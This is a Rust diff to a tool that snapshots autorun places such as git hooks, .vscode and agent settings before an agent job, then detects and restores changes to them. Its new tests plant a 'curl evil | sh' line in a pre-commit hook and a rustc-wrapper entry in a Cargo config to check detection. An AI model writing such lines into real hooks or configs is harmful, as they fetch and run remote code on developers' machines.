@@ -28,7 +28,7 @@
 //! ([`restore`]): nothing the job added runs at the next start, and nothing
 //! is lost.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::ffi::OsString;
 use std::path::{Path, PathBuf};
 
@@ -37,6 +37,11 @@ use crate::policy::autorun::{self, Compare, Files, Kind, Location, Roots};
 
 /// Entries compared per tree location (a hooks directory, `.vscode/`).
 pub const MAX_ENTRIES: usize = 4096;
+/// Bytes of the start's files kept in memory to put them back: the
+/// configuration and hooks this watches are kilobytes; a file past the
+/// budget is still compared, and when changed it is moved out of the way
+/// and named as not put back.
+pub const MAX_KEPT: usize = 32 << 20;
 /// How deep a tree location is followed.
 const MAX_DEPTH: usize = 8;
 
@@ -51,6 +56,8 @@ pub enum Seen {
     File {
         digest: String,
         bytes: Option<Vec<u8>>,
+        /// Its permission bits, to put it back with them (a hook's `x`).
+        mode: u32,
     },
     Link(OsString),
     /// A device, FIFO or socket.
@@ -129,6 +136,11 @@ pub struct Snapshot {
     seen: BTreeMap<PathBuf, Seen>,
     /// The start could not hold every location: the finding for it.
     unchecked: Vec<(PathBuf, String)>,
+    /// Where the links of watched places led at the start, inside the
+    /// project: compared like the links (a hook that is a link into the
+    /// tree runs the file it names). The end follows only these: a link
+    /// the job pointed elsewhere is itself the change, put back.
+    followed: BTreeSet<PathBuf>,
 }
 
 impl Snapshot {
@@ -144,6 +156,7 @@ impl Snapshot {
             locations: resolved.locations,
             seen: BTreeMap::new(),
             unchecked: Vec::new(),
+            followed: BTreeSet::new(),
         };
         if resolved.truncated {
             snap.unchecked.push((
@@ -156,31 +169,55 @@ impl Snapshot {
         }
         let mut seen = BTreeMap::new();
         let mut settings = resolved.settings;
+        let files_apart = snap.files_apart();
+        // What the start keeps to put back, across every location.
+        let mut ex = Expanding {
+            files,
+            apart: &files_apart,
+            project: &snap.roots.project,
+            keep: Some(MAX_KEPT),
+            follow_only: None,
+            followed: BTreeSet::new(),
+        };
         for l in &snap.locations {
-            let keep = snap.keeps_bytes(l);
             // Settings resolving read and parsed: not read again.
-            if let (false, Compare::Json | Compare::Toml, Some(read)) =
-                (l.tree, l.compare, settings.remove(&l.path))
+            if let (false, None, Compare::AgentJson | Compare::AgentToml, Some(read)) =
+                (l.tree, l.ending, l.compare, settings.remove(&l.path))
             {
-                let bytes = keep.then_some(read.bytes);
+                let bytes = match &mut ex.keep {
+                    Some(left) if read.bytes.len() <= *left => {
+                        *left -= read.bytes.len();
+                        Some(read.bytes)
+                    }
+                    _ => None,
+                };
                 seen.insert(
                     l.path.clone(),
                     Seen::File {
                         digest: read.runs,
                         bytes,
+                        mode: files.mode(&l.path).unwrap_or(0o600),
                     },
                 );
-            } else if let Err(at) = expand(l, files, &mut seen, keep) {
+            } else if let Err(at) = ex.expand(l, &mut seen, 0) {
                 snap.unchecked.push(at);
             }
         }
+        let followed = ex.followed;
         snap.seen = seen;
+        snap.followed = followed;
         snap
     }
 
-    /// Agent settings outside the project are kept whole, to be put back.
-    fn keeps_bytes(&self, l: &Location) -> bool {
-        l.compare != Compare::Bytes && !l.path.starts_with(&self.roots.project)
+    /// Files watched in a format of their own inside a watched tree
+    /// (`.vscode/settings.json` in `.vscode/`): the tree leaves them to
+    /// their own location.
+    fn files_apart(&self) -> BTreeSet<PathBuf> {
+        self.locations
+            .iter()
+            .filter(|l| !l.tree && l.ending.is_none())
+            .map(|l| l.path.clone())
+            .collect()
     }
 
     /// After every process of the job is dead: what changed, and what
@@ -192,9 +229,18 @@ impl Snapshot {
     fn compare_in(&self, files: &dyn Files) -> (Vec<Change>, Vec<(PathBuf, String)>) {
         let mut unchecked = self.unchecked.clone();
         let mut changes = Vec::new();
+        let files_apart = self.files_apart();
+        let mut ex = Expanding {
+            files,
+            apart: &files_apart,
+            project: &self.roots.project,
+            keep: None,
+            follow_only: Some(&self.followed),
+            followed: BTreeSet::new(),
+        };
         for l in &self.locations {
             let mut after = BTreeMap::new();
-            if let Err(at) = expand(l, files, &mut after, false) {
+            if let Err(at) = ex.expand(l, &mut after, 0) {
                 unchecked.push(at);
             }
             // In an agent's program tree (an installed package: dozens of
@@ -205,11 +251,13 @@ impl Snapshot {
             // says more than `.vscode`.
             let fold = self.roots.agent_trees.contains(&l.path);
             let mut created_dirs: Vec<(PathBuf, usize)> = Vec::new();
+            // A file read in its tool's format: a created one that runs
+            // nothing (an `.npmrc` with a registry line) planted nothing.
+            let settings = l.compare != Compare::Bytes && !l.tree;
             // The start's entries under this location that are gone now
             // are removals: nothing runs from a removed file.
             for (path, seen) in after {
                 let before = self.seen.get(&path).cloned().unwrap_or(Seen::Absent);
-                let settings = l.compare != Compare::Bytes && !l.tree;
                 if before.same(&seen)
                     || (settings && before.runs_nothing() && seen.runs_nothing())
                     || matches!(seen, Seen::Absent)
@@ -226,14 +274,21 @@ impl Snapshot {
                     }
                     continue;
                 }
+                // In a virtualenv's site-packages, what an installed
+                // package's RECORD lists is its install.
+                if let (Some(sp), Some(name)) = (&l.installed, path.file_name())
+                    && matches!(seen, Seen::File { .. })
+                    && autorun::installed_by_a_package(sp, &name.to_string_lossy(), files)
+                {
+                    continue;
+                }
                 if fold && before == Seen::Absent && seen == Seen::Dir {
                     created_dirs.push((path.clone(), changes.len()));
                 }
+                let compare = if l.tree { Compare::Bytes } else { l.compare };
                 let keys = match (&before, &seen) {
-                    (Seen::File { digest: b, .. }, Seen::File { digest: a, .. })
-                        if l.compare != Compare::Bytes && !l.tree =>
-                    {
-                        autorun::runs_changed(b, a)
+                    (Seen::File { digest: b, .. }, Seen::File { digest: a, .. }) => {
+                        autorun::keys_changed(compare, b, a)
                     }
                     _ => Vec::new(),
                 };
@@ -242,17 +297,39 @@ impl Snapshot {
                     why: l.why.clone(),
                     before,
                     after: seen,
-                    compare: if l.tree { Compare::Bytes } else { l.compare },
+                    compare,
                     keys,
                     inside: 0,
                 });
             }
         }
+        changes.sort_by(|a, b| a.path.cmp(&b.path));
         (changes, unchecked)
     }
 
-    /// Whether `path` is agent settings outside the project that the
-    /// session changed and that [`restore`] puts back.
+    /// The project the snapshot watches.
+    pub fn project(&self) -> &Path {
+        &self.roots.project
+    }
+
+    /// Whether `path` is compared here (a location, or inside a watched
+    /// tree or directory of endings): its change is this snapshot's to
+    /// judge, by content and in its tool's format.
+    pub fn watches(&self, path: &Path) -> bool {
+        self.locations.iter().any(|l| {
+            l.path == path
+                || (l.tree && path.starts_with(&l.path))
+                || l.ending.is_some_and(|e| {
+                    path.parent() == Some(l.path.as_path())
+                        && path
+                            .file_name()
+                            .is_some_and(|n| n.to_string_lossy().ends_with(e))
+                })
+        })
+    }
+
+    /// Whether agent settings outside the project that the session
+    /// changed can be put back by [`restore`].
     pub fn restorable(&self, change: &Change) -> bool {
         change.compare != Compare::Bytes
             && !change.path.starts_with(&self.roots.project)
@@ -263,73 +340,171 @@ impl Snapshot {
     }
 }
 
-/// `l` and, for a tree, everything in it, into `out`; `Err`: where the
-/// bound was reached.
-fn expand(
-    l: &Location,
-    files: &dyn Files,
-    out: &mut BTreeMap<PathBuf, Seen>,
-    keep: bool,
-) -> Result<(), (PathBuf, String)> {
-    let compare = if l.tree { Compare::Bytes } else { l.compare };
-    let seen = seen_at(&l.path, compare, files, keep);
-    let is_dir = seen == Seen::Dir;
-    out.insert(l.path.clone(), seen);
-    if !l.tree || !is_dir {
-        return Ok(());
-    }
-    let mut count = 0usize;
-    let mut stack = vec![(l.path.clone(), 0usize)];
-    while let Some((dir, depth)) = stack.pop() {
-        let Some(entries) = files.list(&dir, MAX_ENTRIES + 1 - count) else {
-            out.insert(dir, Seen::Unreadable("cannot be listed".into()));
-            continue;
-        };
-        count += entries.len();
-        if count > MAX_ENTRIES {
-            return Err((
-                l.path.clone(),
-                format!("more than {MAX_ENTRIES} entries: not checked whole"),
-            ));
-        }
-        for (name, kind) in entries {
-            let child = dir.join(name);
-            if kind == Kind::Dir {
-                out.insert(child.clone(), Seen::Dir);
-                if depth + 1 >= MAX_DEPTH {
-                    return Err((child, "too deep: not checked whole".into()));
-                }
-                stack.push((child, depth + 1));
-            } else {
-                out.insert(child.clone(), seen_at(&child, Compare::Bytes, files, false));
-            }
-        }
-    }
-    Ok(())
+/// How many links in a row are followed from a watched place.
+const MAX_HOPS: usize = 8;
+
+/// Reading watched places: the start's (keeping bytes to put back) or
+/// the end's.
+struct Expanding<'a> {
+    files: &'a dyn Files,
+    /// Files a tree leaves to their own locations.
+    apart: &'a BTreeSet<PathBuf>,
+    project: &'a Path,
+    /// Bytes of files still to be kept (the start); `None` at the end.
+    keep: Option<usize>,
+    /// At the end: only the link targets the start followed.
+    follow_only: Option<&'a BTreeSet<PathBuf>>,
+    /// Link targets inside the project followed.
+    followed: BTreeSet<PathBuf>,
 }
 
-fn seen_at(path: &Path, compare: Compare, files: &dyn Files, keep: bool) -> Seen {
-    match files.kind(path) {
-        None => Seen::Absent,
-        Some(Kind::Dir) => Seen::Dir,
-        Some(Kind::Other) => Seen::Other,
-        Some(Kind::Symlink) => match files.read_link(path) {
-            Some(to) => Seen::Link(to),
-            None => Seen::Unreadable("a link whose target cannot be read".into()),
-        },
-        Some(Kind::File) => match files.read(path, autorun::MAX_CONFIG) {
-            None => Seen::Unreadable(format!(
-                "not readable, or larger than {} MiB",
-                autorun::MAX_CONFIG >> 20
-            )),
-            Some(bytes) => Seen::File {
-                digest: match compare {
-                    Compare::Bytes => crate::hash::sha256_hex(&[&bytes]),
-                    c => autorun::runs(&bytes, c),
-                },
-                bytes: keep.then_some(bytes),
+impl Expanding<'_> {
+    /// `l` and, for a tree, everything in it, into `out`; `Err`: where
+    /// the bound was reached. `hops`: links followed to get here.
+    fn expand(
+        &mut self,
+        l: &Location,
+        out: &mut BTreeMap<PathBuf, Seen>,
+        hops: usize,
+    ) -> Result<(), (PathBuf, String)> {
+        if let Some(ending) = l.ending {
+            // One level: the entries whose names end so, found again at
+            // the end (a workspace file the session adds is compared too).
+            let Some(entries) = self.files.list(&l.path, MAX_ENTRIES + 1) else {
+                return Ok(());
+            };
+            if entries.len() > MAX_ENTRIES {
+                return Err((
+                    l.path.clone(),
+                    format!("more than {MAX_ENTRIES} entries: not checked whole"),
+                ));
+            }
+            for (name, _) in entries {
+                if name.to_string_lossy().ends_with(ending) {
+                    let child = l.path.join(name);
+                    let seen = self.seen_at(&child, l.compare);
+                    out.insert(child, seen);
+                }
+            }
+            return Ok(());
+        }
+        let compare = if l.tree { Compare::Bytes } else { l.compare };
+        let seen = self.seen_at(&l.path, compare);
+        let is_dir = seen == Seen::Dir;
+        self.follow(&l.path, &seen, l, out, hops)?;
+        out.insert(l.path.clone(), seen);
+        if !l.tree || !is_dir {
+            return Ok(());
+        }
+        let mut count = 0usize;
+        let mut stack = vec![(l.path.clone(), 0usize)];
+        while let Some((dir, depth)) = stack.pop() {
+            let Some(entries) = self.files.list(&dir, MAX_ENTRIES + 1 - count) else {
+                out.insert(dir, Seen::Unreadable("cannot be listed".into()));
+                continue;
+            };
+            count += entries.len();
+            if count > MAX_ENTRIES {
+                return Err((
+                    l.path.clone(),
+                    format!("more than {MAX_ENTRIES} entries: not checked whole"),
+                ));
+            }
+            for (name, kind) in entries {
+                let child = dir.join(name);
+                if self.apart.contains(&child) {
+                    continue;
+                }
+                if kind == Kind::Dir {
+                    out.insert(child.clone(), Seen::Dir);
+                    if depth + 1 >= MAX_DEPTH {
+                        return Err((child, "too deep: not checked whole".into()));
+                    }
+                    stack.push((child, depth + 1));
+                } else {
+                    let seen = self.seen_at(&child, Compare::Bytes);
+                    self.follow(&child, &seen, l, out, hops)?;
+                    out.insert(child, seen);
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// A link at `path` that leads inside the project: what it leads to
+    /// is watched as the link is (a file by its bytes, a directory as a
+    /// tree when `l` is one), lexically resolved as the kernel would from
+    /// the link's directory; at the end only where the start went.
+    fn follow(
+        &mut self,
+        path: &Path,
+        seen: &Seen,
+        l: &Location,
+        out: &mut BTreeMap<PathBuf, Seen>,
+        hops: usize,
+    ) -> Result<(), (PathBuf, String)> {
+        let Seen::Link(to) = seen else {
+            return Ok(());
+        };
+        let Some(dir) = path.parent() else {
+            return Ok(());
+        };
+        let target = autorun::normalize(&dir.join(to));
+        if !target.starts_with(self.project)
+            || target == self.project
+            || out.contains_key(&target)
+            || self.follow_only.is_some_and(|only| !only.contains(&target))
+        {
+            return Ok(());
+        }
+        if hops >= MAX_HOPS {
+            return Err((
+                path.to_path_buf(),
+                "too many links in a row: not checked whole".into(),
+            ));
+        }
+        self.followed.insert(target.clone());
+        let linked = Location {
+            path: target,
+            tree: l.tree,
+            ending: None,
+            installed: None,
+            compare: Compare::Bytes,
+            why: l.why.clone(),
+        };
+        self.expand(&linked, out, hops + 1)
+    }
+
+    /// What `path` is; a regular file's bytes kept while the budget
+    /// allows.
+    fn seen_at(&mut self, path: &Path, compare: Compare) -> Seen {
+        let files = self.files;
+        match files.kind(path) {
+            None => Seen::Absent,
+            Some(Kind::Dir) => Seen::Dir,
+            Some(Kind::Other) => Seen::Other,
+            Some(Kind::Symlink) => match files.read_link(path) {
+                Some(to) => Seen::Link(to),
+                None => Seen::Unreadable("a link whose target cannot be read".into()),
             },
-        },
+            Some(Kind::File) => match files.read(path, autorun::MAX_CONFIG) {
+                None => Seen::Unreadable(format!(
+                    "not readable, or larger than {} MiB",
+                    autorun::MAX_CONFIG >> 20
+                )),
+                Some(bytes) => Seen::File {
+                    digest: autorun::runs(&bytes, compare),
+                    mode: files.mode(path).unwrap_or(0o644),
+                    bytes: match &mut self.keep {
+                        Some(left) if bytes.len() <= *left => {
+                            *left -= bytes.len();
+                            Some(bytes)
+                        }
+                        _ => None,
+                    },
+                },
+            },
+        }
     }
 }
 
@@ -353,10 +528,12 @@ pub fn restore(change: &Change) -> String {
             _ => Some(d.set_aside(name)?),
         };
         if let Seen::File {
-            bytes: Some(bytes), ..
+            bytes: Some(bytes),
+            mode,
+            ..
         } = &change.before
         {
-            d.write_file(name, bytes, 0o600)?;
+            d.write_file(name, bytes, *mode)?;
         }
         Ok(aside)
     });
@@ -395,6 +572,10 @@ impl Files for RealFiles {
         std::fs::read_link(path).ok().map(PathBuf::into_os_string)
     }
 
+    fn mode(&self, path: &Path) -> Option<u32> {
+        Some(crate::sys::os::mode(&std::fs::symlink_metadata(path).ok()?) & 0o7777)
+    }
+
     fn list(&self, dir: &Path, max: usize) -> Option<Vec<(OsString, Kind)>> {
         let mut out = Vec::new();
         for entry in std::fs::read_dir(dir).ok()?.take(max) {
@@ -417,7 +598,10 @@ mod tests {
         Roots {
             project: PathBuf::from("/p"),
             home: Some(PathBuf::from("/h")),
-            agent_files: vec![(PathBuf::from("/h/.claude/settings.json"), Compare::Json)],
+            agent_files: vec![(
+                PathBuf::from("/h/.claude/settings.json"),
+                Compare::AgentJson,
+            )],
             agent_trees: Vec::new(),
         }
     }
@@ -626,5 +810,71 @@ mod tests {
             unchecked.iter().any(|(p, _)| p == Path::new("/p/.vscode")),
             "{unchecked:?}"
         );
+    }
+
+    #[test]
+    fn a_hook_linked_into_the_tree_is_compared_by_the_script_it_runs() {
+        let f = Fake::default();
+        f.dir("/p/.git/hooks")
+            .link("/p/.git/hooks/pre-commit", "../../scripts/pre-commit")
+            .file("/p/scripts/pre-commit", "#!/bin/sh\nmake lint\n");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file(
+            "/p/scripts/pre-commit",
+            "#!/bin/sh\nmake lint\ncurl evil | sh\n",
+        );
+        let (changes, _) = snap.compare_in(&f);
+        assert_eq!(changes.len(), 1, "{changes:?}");
+        assert_eq!(changes[0].path, Path::new("/p/scripts/pre-commit"));
+        assert!(
+            matches!(&changes[0].before, Seen::File { bytes: Some(b), .. } if b.as_slice() == b"#!/bin/sh\nmake lint\n"),
+            "the start's script is kept to put back: {:?}",
+            changes[0].before
+        );
+    }
+
+    #[test]
+    fn a_link_pointed_elsewhere_is_the_change_and_its_new_target_is_not_taken() {
+        let f = Fake::default();
+        f.dir("/p/.git/hooks")
+            .link("/p/.git/hooks/pre-commit", "../../scripts/pre-commit")
+            .file("/p/scripts/pre-commit", "lint")
+            .file("/p/src/main.rs", "fn main() {}");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.link("/p/.git/hooks/pre-commit", "../../src/main.rs");
+        let (changes, _) = snap.compare_in(&f);
+        let paths: Vec<_> = changes.iter().map(|c| c.path.clone()).collect();
+        assert_eq!(paths, [PathBuf::from("/p/.git/hooks/pre-commit")]);
+    }
+
+    #[test]
+    fn a_format_file_edited_harmlessly_is_no_change_and_a_wrapper_is() {
+        let f = Fake::default();
+        f.file("/p/.cargo/config.toml", "[profile.dev]\nopt-level = 0\n")
+            .file("/p/.vscode/settings.json", "{\"editor.fontSize\": 12}");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file("/p/.cargo/config.toml", "[profile.dev]\nopt-level = 2\n")
+            .file("/p/.vscode/settings.json", "{\"editor.fontSize\": 14}")
+            .file(
+                "/p/app.code-workspace",
+                "{\"folders\": [{\"path\": \".\"}]}",
+            );
+        let (changes, _) = snap.compare_in(&f);
+        assert!(changes.is_empty(), "{changes:?}");
+        f.file(
+            "/p/.cargo/config.toml",
+            "[profile.dev]\nopt-level = 2\n[build]\nrustc-wrapper = \"./w\"\n",
+        )
+        .file("/p/b.code-workspace", "{\"tasks\": {}}");
+        let (changes, _) = snap.compare_in(&f);
+        let paths: Vec<_> = changes.iter().map(|c| c.path.clone()).collect();
+        assert_eq!(
+            paths,
+            [
+                PathBuf::from("/p/.cargo/config.toml"),
+                PathBuf::from("/p/b.code-workspace")
+            ]
+        );
+        assert_eq!(changes[0].keys, ["build.rustc-wrapper"]);
     }
 }
